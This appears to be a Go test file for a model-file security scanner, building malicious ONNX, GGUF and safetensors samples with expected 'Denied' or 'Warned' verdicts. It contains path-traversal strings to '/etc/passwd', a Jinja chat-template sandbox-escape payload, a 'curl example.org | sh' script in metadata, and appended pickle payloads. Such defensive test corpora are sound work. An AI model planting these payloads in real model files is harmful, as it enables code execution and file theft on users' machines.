package bypass

import (
	"encoding/binary"
	"strings"

	"github.com/modelgate/gate/internal/modeltest"
)

// graphs has recipes in ONNX.
func graphs() []Recipe {
	var out []Recipe
	add := func(technique, name string, want Verdict, data []byte) {
		out = append(out, one(technique, name, "model.onnx", data, want))
	}
	add("ONNX operators", "PyOp", Denied, modeltest.ONNX("ai.onnx.contrib", "PyOp", ""))
	add("ONNX operators", "foreign domain", Warned, modeltest.ONNX("acme.ops", "Magic", ""))
	onnx := func(parts ...[]byte) []byte {
		b := varint(1, 8)
		for _, p := range append(parts, message(8, varint(2, 17))) {
			b = append(b, p...)
		}
		return b
	}
	node := func(domain, op string, more ...[]byte) []byte {
		return message(1, append([][]byte{bytesOf(1, "x"), bytesOf(2, "y"), bytesOf(4, op), bytesOf(7, domain)}, more...)...)
	}
	subgraph := message(5, bytesOf(1, "then_branch"), message(6, node("acme.ops", "Magic"), bytesOf(2, "g")), varint(20, 5))
	add("ONNX operators", "in a subgraph", Warned, onnx(message(7, node("", "If", subgraph), bytesOf(2, "g"))))
	function := message(25, bytesOf(1, "f"), bytesOf(10, "local"), message(7, bytesOf(1, "x"), bytesOf(2, "y"), bytesOf(4, "Magic"), bytesOf(7, "acme.ops")))
	add("ONNX operators", "in a function", Warned, onnx(message(7, node("", "Relu"), bytesOf(2, "g")), function))
	for _, l := range [][2]string{
		{"dots", "../../etc/passwd"}, {"dots inside", "a/../../etc/passwd"}, {"absolute", "/etc/passwd"}, {"URL", "http://example.org/x"},
		{"backslash", `..\..\x`}, {"drive", `C:\x`},
	} {
		add("ONNX data", l[0], Denied, modeltest.ONNX("", "Relu", l[1]))
	}
	tensor := func(location string) []byte {
		return message(5, bytesOf(8, "w"), message(13, bytesOf(1, "location"), bytesOf(2, location)), varint(14, 1))
	}
	attribute := message(5, bytesOf(1, "value"), message(5, bytesOf(8, "w"), message(13, bytesOf(1, "location"), bytesOf(2, "../../x")), varint(14, 1)), varint(20, 4))
	add("ONNX data", "in an attribute", Denied, onnx(message(7, node("", "Constant", attribute), bytesOf(2, "g"))))
	negative := message(5, bytesOf(8, "w"), message(13, bytesOf(1, "location"), bytesOf(2, "w.bin")), message(13, bytesOf(1, "offset"), bytesOf(2, "-1")), varint(14, 1))
	add("ONNX data", "negative offset", Warned, onnx(message(7, node("", "Relu"), bytesOf(2, "g"), negative)))
	add("ONNX data", "sparse tensor", Denied, onnx(message(7, node("", "Relu"), bytesOf(2, "g"), message(15, append([]byte(nil), message(1, tensor("../../x")[2:])...)))))
	raw := message(5, varint(1, 100), varint(2, 1), bytesOf(8, "w"), bytesOf(9, "\x00\x00\x00\x00"))
	add("ONNX data", "data shorter than its shape", Warned, onnx(message(7, node("", "Relu"), bytesOf(2, "g"), raw)))
	add("ONNX data", "script in the metadata", Warned, onnx(message(7, node("", "Relu"), bytesOf(2, "g")), message(14, bytesOf(1, "note"), bytesOf(2, "#!/bin/sh\ncurl example.org | sh\n"))))
	add("ONNX data", "cut off", Warned, modeltest.ONNX("acme.ops", "Magic", "")[:20])
	return out
}

// gguf builds a file of a version and byte order.
type gguf struct {
	order binary.AppendByteOrder
	old   bool // counts have four bytes
	b     []byte
}

func newGGUF(order binary.AppendByteOrder, version uint32, tensors, pairs uint64) *gguf {
	g := &gguf{order: order, old: version == 1, b: []byte("GGUF")}
	g.b = order.AppendUint32(g.b, version)
	return g.count(tensors).count(pairs)
}

func (g *gguf) u32(v uint32) *gguf { g.b = g.order.AppendUint32(g.b, v); return g }
func (g *gguf) u64(v uint64) *gguf { g.b = g.order.AppendUint64(g.b, v); return g }

func (g *gguf) count(v uint64) *gguf {
	if g.old {
		return g.u32(uint32(v))
	}
	return g.u64(v)
}

func (g *gguf) text(s string) *gguf {
	g.count(uint64(len(s)))
	g.b = append(g.b, s...)
	return g
}

func (g *gguf) pair(key, value string) *gguf { return g.text(key).u32(8).text(value) }

// tensor is an F32 tensor.
func (g *gguf) tensor(name string, kind uint32, offset uint64, dims ...uint64) *gguf {
	g.text(name).u32(uint32(len(dims)))
	for _, d := range dims {
		g.count(d)
	}
	return g.u32(kind).u64(offset)
}

// data pads to 32 bytes and appends n bytes.
func (g *gguf) data(n int) []byte {
	return append(append(g.b, make([]byte, (32-len(g.b)%32)%32)...), make([]byte, n)...)
}

const escape = "{% for m in messages %}{{ m.__class__.__mro__[1].__subclasses__() }}{% endfor %}"

// headers has recipes in GGUF and safetensors.
func headers() []Recipe {
	var out []Recipe
	add := func(technique, name string, want Verdict, data []byte) {
		out = append(out, one(technique, name, "model.gguf", data, want))
	}
	le, be := binary.LittleEndian, binary.BigEndian
	little := func(tensors, pairs uint64) *gguf {
		return newGGUF(le, 3, tensors, pairs).pair("general.architecture", "llama")
	}
	add("GGUF template", "named", Denied, little(0, 2).pair("tokenizer.chat_template", escape).b)
	add("GGUF template", "second name", Denied, little(0, 3).pair("tokenizer.chat_template", "{{ 1 }}").pair("tokenizer.chat_template.tool_use", escape).b)
	add("GGUF template", "in an array", Denied, little(0, 2).text("tokenizer.chat_template").u32(9).u32(8).u64(1).text(escape).b)
	add("GGUF template", "version 1", Denied, newGGUF(le, 1, 0, 1).pair("tokenizer.chat_template", escape).b)
	add("GGUF template", "big-endian", Denied, newGGUF(be, 3, 0, 1).pair("tokenizer.chat_template", escape).b)
	add("GGUF template", "twice, evil first", Denied, little(0, 3).pair("tokenizer.chat_template", escape).pair("tokenizer.chat_template", "{{ 1 }}").b)
	add("GGUF template", "twice, both benign", Warned, little(0, 3).pair("tokenizer.chat_template", "{{ 1 }}").pair("tokenizer.chat_template", "{{ 2 }}").b)
	add("GGUF numbers", "count of keys", Warned, []byte("GGUF\x03\x00\x00\x00"+long(0)+long(1<<62)))
	add("GGUF numbers", "count of tensors", Warned, []byte("GGUF\x03\x00\x00\x00"+long(1<<62)+long(0)))
	add("GGUF numbers", "length of a text", Warned, little(0, 2).text("a").u32(8).u64(1<<60).b)
	add("GGUF numbers", "length of an array", Warned, little(0, 2).text("a").u32(9).u32(4).u64(1<<61).b)
	add("GGUF numbers", "nested arrays", Warned, little(0, 2).text("a").u32(9).u32(9).u64(1).u32(9).u64(1).b)
	add("GGUF numbers", "five dimensions", Warned, little(1, 1).tensor("w", 0, 0, 1, 1, 1, 1, 1).data(32))
	add("GGUF numbers", "dimensions overflow", Warned, little(1, 1).tensor("w", 0, 0, 1<<33, 1<<33).data(32))
	add("GGUF numbers", "offset outside", Warned, little(1, 1).tensor("w", 0, 1<<40, 8).data(32))
	add("GGUF numbers", "alignment of zero", Warned, little(1, 2).text("general.alignment").u32(4).u32(0).tensor("w", 0, 0, 8).data(32))
	add("GGUF numbers", "alignment no power of two", Warned, little(1, 2).text("general.alignment").u32(4).u32(33).tensor("w", 0, 0, 8).data(64))
	add("GGUF numbers", "version 9", Warned, newGGUF(le, 9, 0, 0).b)
	add("GGUF numbers", "cut off", Warned, little(1, 1).tensor("w", 0, 0, 8).b)
	for _, magic := range []string{"lmgg", "tjgg", "fmgg", "algg"} {
		out = append(out, one("GGUF numbers", "GGML "+magic, "model.ggml", []byte(magic+strings.Repeat("\xff", 64)), Warned))
	}
	return append(out, safetensors()...)
}

func safetensors() []Recipe {
	var out []Recipe
	add := func(technique, name string, want Verdict, data []byte) {
		out = append(out, one(technique, name, "model.safetensors", data, want))
	}
	tensor := func(shape, offsets string) string {
		return `{"w":{"dtype":"F32","shape":[` + shape + `],"data_offsets":[` + offsets + `]}}`
	}
	st := modeltest.Safetensors
	add("safetensors header", "overlap", Warned, st(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}`, 24))
	add("safetensors header", "shape overflows", Warned, st(tensor("1152921504606846976,1152921504606846976", "0,16"), 16))
	add("safetensors header", "negative", Warned, st(tensor("-4", "0,-16"), 16))
	add("safetensors header", "outside", Warned, st(tensor("400", "0,1600"), 16))
	add("safetensors header", "span is not the shape", Warned, st(tensor("3", "0,16"), 16))
	add("safetensors header", "unknown type", Warned, st(`{"w":{"dtype":"F7","shape":[4],"data_offsets":[0,16]}}`, 16))
	add("safetensors header", "length of 2^60", Warned, []byte(long(1<<60)+"{}"))
	add("safetensors header", "duplicate", Warned, st(`{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, 16))
	add("safetensors header", "no JSON", Warned, st(`not json`, 16))
	add("safetensors header", "deep JSON", Warned, st(strings.Repeat(`{"a":`, 1000)+"1"+strings.Repeat("}", 1000), 0))
	add("safetensors header", "number of many digits", Warned, st(tensor("4", "0,"+strings.Repeat("9", 400)), 16))
	add("safetensors tail", "hole", Warned, st(`{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[12,16]}}`, 16))
	add("safetensors tail", "zeros behind", Warned, st(tensor("4", "0,16"), 64))
	add("safetensors tail", "pickle behind", Denied, append(st(tensor("4", "0,16"), 16), evil2...))
	add("safetensors tail", "archive behind", Denied, append(st(tensor("4", "0,16"), 16), torchZip(evil2)...))
	add("safetensors tail", "metadata that is no text", Warned, st(`{"__metadata__":{"a":1},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, 16))
	add("metadata", "script", Warned, st(`{"__metadata__":{"note":"#!/bin/sh\ncurl example.org | sh"},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, 16))
	add("metadata", "Python", Warned, st(`{"__metadata__":{"note":"import os; os.system('true')"},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}`, 16))
	add("metadata", "pointer of LFS", Warned, []byte("version https://git-lfs.github.com/spec/v1\noid sha256:"+strings.Repeat("0", 64)+"\nsize 123\n"))
	return out
}
